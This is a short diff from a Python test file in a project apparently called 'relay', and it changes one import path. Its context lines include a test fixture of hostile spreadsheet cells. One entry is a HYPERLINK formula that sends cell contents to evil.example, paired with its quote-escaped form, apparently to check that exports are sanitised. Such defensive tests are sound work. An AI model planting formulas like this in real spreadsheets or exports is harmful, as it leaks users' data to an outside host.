@@ -15,7 +15,7 @@ import aiohttp
 from relay.config import FleetConfig
 from relay.inspection.records import CaptureRecord, FindingRecord, MissionRecord, Step
 from relay.inspection.store import Store
-from tests.test_inspection import TOKEN, operator, relay_with_database
+from tests.helpers.inspection import TOKEN, operator, relay_with_database
 
 HOSTILE_CELLS = {
     '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
